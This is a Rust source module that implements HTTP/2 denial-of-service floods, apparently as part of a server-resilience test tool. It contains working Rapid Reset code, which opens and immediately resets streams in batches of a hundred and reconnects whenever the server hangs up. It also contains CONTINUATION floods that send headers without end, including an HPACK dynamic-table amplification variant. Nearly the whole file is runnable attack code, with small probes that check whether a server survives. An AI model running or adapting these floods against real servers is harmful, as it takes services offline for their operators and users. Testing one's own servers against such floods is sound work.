//! Floods over HTTP/2: requests that are reset as soon as they are opened, counted by what the server has read of it; and
//! headers without an end, as fast as they are read.

use std::{
    io::{self, Read, Write},
    net::{SocketAddr, TcpStream},
};

use crate::crowd::{BLOCK, PREFACE, SETTINGS, TIMEOUT, frame};

/// What came of a flood of resets.
#[derive(Clone, Copy, Debug, Default)]
pub struct Resets {
    /// So many requests were opened and reset, and the server has read that: it answered a ping behind them, or named the last
    /// one when it hung up.
    pub handled: u64,
    /// Over so many connections.
    pub connections: u64,
}

/// Opens requests over HTTP/2 and resets each at once, anew over another connection whenever the server hangs up, until the
/// server has had so many.
pub fn rapid_reset(server: SocketAddr, count: u64) -> Resets {
    let mut resets = Resets::default();
    // A server that hangs up before it has read one ends it, too.
    while resets.handled < count && resets.connections < count {
        let Ok(mut stream) = http2(server) else { continue };
        resets.connections += 1;
        let mut id = 1;
        while resets.handled < count && id < 1 << 30 {
            let (handled, goes_on) = reset_some(&mut stream, id);
            resets.handled += handled;
            if !goes_on {
                break;
            }
            id += 2 * AT_ONCE;
        }
    }
    resets
}

/// So many requests are opened and reset before the server is asked how far it is.
const AT_ONCE: u32 = 100;

/// Resets some requests, the first of which has this id: how many the server has read, and whether it goes on.
fn reset_some(stream: &mut TcpStream, first: u32) -> (u64, bool) {
    let pairs = (0..AT_ONCE).flat_map(|n| {
        let id = first + 2 * n;
        [frame(1, 5, id, BLOCK), frame(3, 0, id, &8_u32.to_be_bytes())].concat()
    });
    let frames: Vec<u8> = pairs.chain(frame(6, 0, 0, &[7; 8])).collect();
    // One that has hung up says before how far it came.
    let _ = stream.write_all(&frames);
    loop {
        match Frame::read(stream) {
            // The ping's answer.
            Ok(Frame { kind: 6, flags: 1, .. }) => return (u64::from(AT_ONCE), true),
            Ok(Frame { kind: 7, payload, .. }) => {
                let last = payload.first_chunk().map_or(0, |id| u32::from_be_bytes(*id));
                return (u64::from((last + 2).saturating_sub(first) / 2).min(u64::from(AT_ONCE)), false);
            }
            Ok(_) => {}
            Err(_) => return (0, false),
        }
    }
}

/// The request that is reset above, left alone: is it answered with 200?
///
/// # Errors
/// The connection ended before.
pub fn asked_over_http2(server: SocketAddr) -> io::Result<bool> {
    let mut stream = http2(server)?;
    stream.write_all(&frame(1, 5, 1, BLOCK))?;
    loop {
        match Frame::read(&mut stream)? {
            // HPACK's static table has `:status 200` at 8.
            Frame { kind: 1, stream: 1, payload, .. } => return Ok(payload.first() == Some(&0x88)),
            Frame { kind: 3 | 7, .. } => return Ok(false),
            _ => {}
        }
    }
}

/// What headers without an end are made of.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Headers {
    /// CONTINUATION frames with nothing in them.
    Empty,
    /// Full ones, of short fields.
    Short,
    /// Full ones, each byte of which stands for a field of four kilobytes that was sent once (HPACK's dynamic table).
    Table,
}

impl Headers {
    /// All of them.
    pub const ALL: [Headers; 3] = [Headers::Empty, Headers::Short, Headers::Table];

    /// What a request begins with, and what follows as often as it is taken.
    fn parts(self) -> (Vec<u8>, Vec<u8>) {
        let full = 16 << 10;
        let block = match self {
            // SPEC: RFC 7541 section 6.2.1: a literal field that is put into the table, where it is at 62.
            Headers::Table => [BLOCK, b"\x40\x03x-a\x7f\xa1\x1e", &[b'a'; 4000]].concat(),
            Headers::Empty | Headers::Short => BLOCK.to_vec(),
        };
        let more = match self {
            Headers::Empty => frame(9, 0, NEXT, b"").repeat(1000),
            Headers::Short => frame(9, 0, NEXT, &b"\x00\x03x-a\x02bc".repeat(full / 8)),
            Headers::Table => frame(9, 0, NEXT, &vec![0xbe; full]),
        };
        // Neither has END_HEADERS.
        (frame(1, 1, NEXT, &block), more)
    }
}

/// The stream of a connection's second request.
const NEXT: u32 = 3;
/// Whoever takes so much of one request's headers holds on to no limit. It is more than the kernel has room for.
const ENDLESS: usize = 32 << 20;

/// Asks once, as anybody may, and then sends a second request whose headers never end: does the server end the connection?
///
/// # Errors
/// The first request was not answered.
pub fn is_ended_by(server: SocketAddr, headers: Headers) -> io::Result<bool> {
    let mut stream = http2(server)?;
    stream.write_all(&frame(1, 5, 1, BLOCK))?;
    // Its END_STREAM, on DATA.
    while !matches!(Frame::read(&mut stream)?, Frame { kind: 0, flags, stream: 1, .. } if flags & 1 == 1) {}
    stream.set_write_timeout(Some(TIMEOUT))?;
    let (begin, more) = headers.parts();
    stream.write_all(&begin)?;
    for _ in 0..ENDLESS.div_ceil(more.len()) {
        match stream.write_all(&more) {
            Ok(()) => {}
            // It is there still, and doesn't read.
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => return Ok(false),
            Err(_) => return Ok(true),
        }
    }
    Ok(false)
}

fn http2(server: SocketAddr) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect(server)?;
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(TIMEOUT))?;
    stream.write_all(&[PREFACE, &SETTINGS].concat())?;
    Ok(stream)
}

/// A frame that a server sent.
struct Frame {
    kind: u8,
    flags: u8,
    stream: u32,
    payload: Vec<u8>,
}

impl Frame {
    fn read(stream: &mut TcpStream) -> io::Result<Frame> {
        let mut head = [0; 9];
        stream.read_exact(&mut head)?;
        let [a, b, c, kind, flags, d, e, f, g] = head;
        let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
        stream.read_exact(&mut payload)?;
        Ok(Frame { kind, flags, stream: u32::from_be_bytes([d, e, f, g]) & 0x7fff_ffff, payload })
    }
}
